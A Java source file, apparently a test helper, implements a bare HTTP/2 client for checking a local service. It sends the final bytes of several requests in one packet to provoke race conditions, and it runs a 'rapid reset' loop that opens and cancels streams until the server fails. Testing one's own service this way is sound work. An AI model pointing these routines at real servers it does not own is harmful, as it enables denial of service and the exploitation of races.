package io.claimcode.verify;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.net.Socket;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/**
 * Many requests on one HTTP/2 connection whose last frames come in one packet, so that they begin at the same moment
 * however far away the caller is. Speaks just enough of HTTP/2 (RFC 9113), in clear text and with prior knowledge.
 */
final class SinglePacket implements AutoCloseable {
    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int RESET = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int GO_AWAY = 7;
    private static final int ACK = 1;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final int PATIENCE_MS = 60_000;

    private final Socket socket;
    private final DataInputStream in;
    private int nextStream = 1;

    SinglePacket(URI site) throws IOException {
        socket = new Socket(site.getHost(), site.getPort());
        socket.setTcpNoDelay(true);
        socket.setSoTimeout(PATIENCE_MS);
        in = new DataInputStream(socket.getInputStream());
        var hello = new ByteArrayOutputStream();
        hello.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        frame(hello, SETTINGS, 0, 0, new byte[0]);
        socket.getOutputStream().write(hello.toByteArray());
    }

    /** The header fields of a request. */
    static Map<String, String> head(String method, String path, String token, String key) {
        var head = new LinkedHashMap<String, String>();
        head.put(":method", method);
        head.put(":scheme", "http");
        head.put(":path", path);
        head.put(":authority", "127.0.0.1");
        head.put("authorization", "Bearer " + token);
        head.put("content-type", "application/json");
        head.put("idempotency-key", key);
        return head;
    }

    /** Sends all but the last byte of each body, then all last bytes at once; the answers' bodies in order. */
    List<String> post(List<Map<String, String>> headers, List<String> bodies) throws IOException {
        var first = new ByteArrayOutputStream();
        var last = new ByteArrayOutputStream();
        var answers = new TreeMap<Integer, ByteArrayOutputStream>();
        for (int i = 0; i < bodies.size(); i++) {
            byte[] body = bodies.get(i).getBytes(StandardCharsets.UTF_8);
            int stream = nextStream;
            nextStream += 2;
            answers.put(stream, new ByteArrayOutputStream());
            frame(first, HEADERS, END_HEADERS, stream, fields(headers.get(i), body.length));
            frame(
                    first,
                    DATA,
                    0,
                    stream,
                    ByteBuffer.allocate(body.length - 1)
                            .put(body, 0, body.length - 1)
                            .array());
            frame(last, DATA, END_STREAM, stream, new byte[] {body[body.length - 1]});
        }
        socket.getOutputStream().write(first.toByteArray());
        socket.getOutputStream().write(last.toByteArray());
        read(answers);
        return answers.values().stream()
                .map(answer -> answer.toString(StandardCharsets.UTF_8))
                .toList();
    }

    /** Opens streams and takes each back at once (the "rapid reset"), until the server has enough of it or all are sent. */
    void reset(Map<String, String> headers, int times) {
        try {
            for (int i = 0; i < times; i++) {
                var frames = new ByteArrayOutputStream();
                frame(frames, HEADERS, END_HEADERS | END_STREAM, nextStream, fields(headers, 0));
                frame(frames, RESET, 0, nextStream, new byte[] {0, 0, 0, 8});
                nextStream += 2;
                socket.getOutputStream().write(frames.toByteArray());
            }
        } catch (IOException closed) {
            // That is one way to end it.
        }
    }

    private void read(Map<Integer, ByteArrayOutputStream> answers) throws IOException {
        int open = answers.size();
        while (open > 0) {
            int length = in.readUnsignedByte() << 16 | in.readUnsignedShort();
            int type = in.readUnsignedByte();
            int flags = in.readUnsignedByte();
            int stream = in.readInt();
            byte[] payload = in.readNBytes(length);
            if (type == SETTINGS && (flags & ACK) == 0 || type == PING && (flags & ACK) == 0) {
                var ack = new ByteArrayOutputStream();
                frame(ack, type, ACK, 0, type == PING ? payload : new byte[0]);
                socket.getOutputStream().write(ack.toByteArray());
            } else if (type == GO_AWAY || type == RESET) {
                throw new IOException("the server ended it, with a frame of type " + type);
            } else if ((type == DATA || type == HEADERS) && answers.containsKey(stream)) {
                if (type == DATA) {
                    answers.get(stream).write(payload);
                }
                if ((flags & END_STREAM) != 0) {
                    open--;
                }
            }
        }
    }

    /** Header fields as literals that are never indexed: no table, no Huffman code. */
    private static byte[] fields(Map<String, String> headers, int length) {
        var block = new ByteArrayOutputStream();
        headers.forEach((name, value) -> field(block, name, value));
        if (length > 0) {
            field(block, "content-length", Integer.toString(length));
        }
        return block.toByteArray();
    }

    private static void field(ByteArrayOutputStream block, String name, String value) {
        block.write(0x10);
        text(block, name);
        text(block, value);
    }

    private static void text(ByteArrayOutputStream block, String text) {
        byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
        int length = bytes.length;
        if (length < 127) {
            block.write(length);
        } else {
            block.write(127);
            length -= 127;
            while (length >= 128) {
                block.write(length % 128 + 128);
                length /= 128;
            }
            block.write(length);
        }
        block.writeBytes(bytes);
    }

    private static void frame(ByteArrayOutputStream out, int type, int flags, int stream, byte[] payload) {
        out.writeBytes(ByteBuffer.allocate(9 + payload.length)
                .put((byte) (payload.length >> 16))
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array());
    }

    @Override
    public void close() throws IOException {
        socket.close();
    }
}
